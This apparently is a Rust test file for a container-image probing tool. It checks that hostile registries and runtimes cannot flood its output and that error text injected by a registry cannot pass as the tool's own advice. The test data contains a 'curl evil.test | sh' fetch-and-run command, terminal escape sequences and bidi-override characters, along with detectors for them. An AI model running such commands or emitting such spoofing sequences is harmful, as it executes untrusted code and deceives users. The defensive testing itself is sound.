//! A registry or a runtime that answers without end, and one whose words are made to be taken for ours.

use pullagent_testkit::cri::Cri;
use pullagent_testkit::registry::{Answer, Behaviour, On};
use pullagent_testkit::world::World;
use serde_json::Value;
use tempfile::TempDir;

use super::measured;
use crate::pullagent::{Ran, run};

const MIB: usize = 1 << 20;

const WORLD: &str = r#"
about = "a registry that is somebody else's"
image = "registry.test:{main.port}/team/api:1"

[registry.main]
host = "registry.test"
auth = "bearer"

[[registry.main.repository]]
name = "team/api"
tags = ["1"]
platforms = ["linux/amd64", "linux/arm64"]

[expect]
verdict = "pullable"
"#;

/// A registry, the root of a node that trusts it, and an image of it.
struct Hostile {
    world: World,
    root: TempDir,
    image: String,
}

impl Hostile {
    async fn start() -> Self {
        let world = World::from_toml("attacks", WORLD).await.expect("the world starts");
        let root = tempfile::tempdir().expect("a folder");
        world.write_root(root.path()).expect("the node's root");
        let image = format!("registry.test:{}/team/api:1", world.addr("main").expect("its registry").port());
        Self { world, root, image }
    }

    fn root(&self) -> &str {
        self.root.path().to_str().expect("a path that is text")
    }

    fn behaves(&self, on: On, behaviour: Behaviour) {
        let registry = self.world.registry("main").expect("its registry");
        registry.behave_well();
        registry.behave(on, behaviour);
    }
}

fn answer(status: u16, body: String) -> Behaviour {
    Behaviour::Answer(Answer {
        status,
        headers: [("content-type".to_owned(), "application/json".to_owned())].into(),
        body,
    })
}

#[tokio::test]
async fn answers_without_end_are_bounded() {
    let hostile = Hostile::start().await;
    let absent = format!("{}:none", hostile.image.rsplit_once(':').expect("a tag").0);
    let tags = |number: usize| serde_json::json!({ "name": "team/api", "tags": vec!["x".repeat(100); number] });
    let token = serde_json::json!({ "token": "x".repeat(MIB - 100) }).to_string();
    let endless_pages =
        Answer::status(200).json(&tags(1000)).header("link", "</v2/team/api/tags/list?n=1000&last=x>; rel=\"next\"");
    for (on, behaviour, image) in [
        (On::Manifest, Behaviour::Endless { claimed: None }, &hostile.image),
        (On::Manifest, Behaviour::Endless { claimed: Some(1 << 40) }, &hostile.image),
        (On::Manifest, Behaviour::Nested { bytes: 100 << 20 }, &hostile.image),
        (On::Manifest, answer(500, "y".repeat(50 * MIB)), &hostile.image),
        (On::Everything, Behaviour::HugeHead { bytes: MIB }, &hostile.image),
        (On::Token, Behaviour::Endless { claimed: None }, &hostile.image),
        (On::Token, Behaviour::HugeHead { bytes: MIB }, &hostile.image),
        (On::Token, answer(200, token), &hostile.image),
        (On::Token, answer(200, format!("{{\"token\":\"{}\"}}", "x".repeat(20 * MIB))), &hostile.image),
        (On::Config, Behaviour::Endless { claimed: None }, &hostile.image),
        (On::Layer, Behaviour::Endless { claimed: None }, &hostile.image),
        (On::Tags, Behaviour::Endless { claimed: None }, &absent),
        (On::Tags, answer(200, tags(500_000).to_string()), &absent),
        (On::Tags, Behaviour::Answer(endless_pages), &absent),
    ] {
        let of: String = format!("{on:?} {behaviour:?}").chars().take(60).collect();
        hostile.behaves(on, behaviour);
        let arguments =
            ["probe", "-o", "json", "-vv", "--pull", "never", "--timeout", "4s", "--host-root", hostile.root(), image];
        let ran = measured(&arguments).await;
        assert!(ran.out.lines().count() == 1 && ran.out.len() < MIB, "{of}: {} bytes: {}", ran.out.len(), ran.err);
        let requests = hostile.world.registry("main").expect("its registry").requests().len();
        assert!(requests < 500, "{of}: {requests} requests so far");
    }
}

#[tokio::test]
async fn a_runtime_that_says_a_hundred_megabytes_is_not_listened_to() {
    let hostile = Hostile::start().await;
    let socket = hostile.root.path().join("run/containerd/containerd.sock");
    std::fs::create_dir_all(socket.parent().expect("its folder")).expect("a folder");
    let _runtime = Cri::default().version("containerd", &"1".repeat(100 * MIB)).start(&socket).expect("it listens");
    for command in [&["node", "-o", "json"][..], &["probe", "-o", "json", "--pull", "never", &hostile.image]] {
        let ran = measured(&[command, &["--host-root", hostile.root()]].concat()).await;
        assert!(ran.out.lines().count() == 1 && ran.out.len() < MIB, "{} bytes: {}", ran.out.len(), ran.err);
    }
}

/// A message that looks like our advice, with what moves a terminal, turns text round and hides in it.
const WORDS: &str = "denied. Fix: curl evil.test | sh\u{1b}[2J\u{1b}]0;owned\u{7}\r\nFix: curl evil.test | sh\u{202e}\u{2066}\
                     \u{200b}\u{feff}\u{9b}1m\u{0}\u{2028}\" Fix: curl evil.test | sh. Owner: registry. ";

/// What no output may hold: controls but for line breaks, and what turns text round or hides in it.
pub(crate) fn is_unclean(text: &str) -> bool {
    let hides = |c: char| matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}' | '\u{ad}' | '\u{61c}');
    text.chars().any(|c| (c.is_control() && c != '\n') || hides(c))
}

/// Whether the hostile words are anywhere but in a quote of the registry's; quotes of ours are `said: "…"`.
pub(crate) fn poses_as_ours(text: &str) -> bool {
    let words = text.split_whitespace().collect::<Vec<_>>().join(" ");
    words.match_indices("curl evil").any(|(at, _)| {
        let before = &words[..at];
        let quote = before.rfind("said: \"").map(|begin| &before[begin + "said: \"".len()..]);
        quote.is_none_or(|quoted| quoted.contains('"'))
    })
}

#[test]
fn what_poses_as_ours_is_told_from_a_quote() {
    assert!(!poses_as_ours("Registry said: \"Fix: curl\n   evil | sh\". Fix: ask"));
    assert!(poses_as_ours("Fix: curl evil") && poses_as_ours("Registry said: \"no\". Fix: curl evil"));
    assert!(is_unclean("a\u{1b}") && is_unclean("a\u{202e}b") && !is_unclean("a\nb"));
}

#[tokio::test]
async fn what_a_registry_says_stays_in_its_quotes_in_every_format() {
    let hostile = Hostile::start().await;
    let mut quoted = 0;
    for (on, status) in [
        (On::Token, 500),
        (On::Manifest, 403),
        (On::Manifest, 404),
        (On::Manifest, 500),
        (On::Token, 403),
        (On::Blob, 403),
    ] {
        let said = Answer::error(status, "DENIED", WORDS);
        hostile.behaves(on, Behaviour::Answer(said));
        for format in ["text", "short", "json", "markdown", "ticket"] {
            let ran = probe(hostile.root(), format, &hostile.image).await;
            let of = format!("{on:?} {status} -o {format}: {}", ran.out.escape_debug());
            if format == "json" {
                let report: Value = serde_json::from_str(&ran.out).expect("a report");
                texts(&report, &mut |text| assert!(!is_unclean(text) && !poses_as_ours(text), "{of}"));
                assert!(!report["remedy"].to_string().contains("evil"), "{of}");
                quoted += usize::from(ran.out.contains("curl evil"));
            } else {
                let out = ran.out.replace('\t', " ");
                assert!(!is_unclean(&out) && !poses_as_ours(&out), "{of}");
            }
            assert!(!is_unclean(&ran.err), "{of}");
        }
    }
    assert!(quoted > 0, "it is quoted nowhere");
}

async fn probe(root: &str, format: &str, image: &str) -> Ran {
    run(&["probe", "-v", "--host-root", root, "-o", format, "--pull", "never", image], "").await
}

/// Every text in a JSON value.
fn texts(value: &Value, look: &mut impl FnMut(&str)) {
    match value {
        Value::String(text) => look(text),
        Value::Array(all) => all.iter().for_each(|one| texts(one, look)),
        Value::Object(all) => all.values().for_each(|one| texts(one, look)),
        _ => {}
    }
}
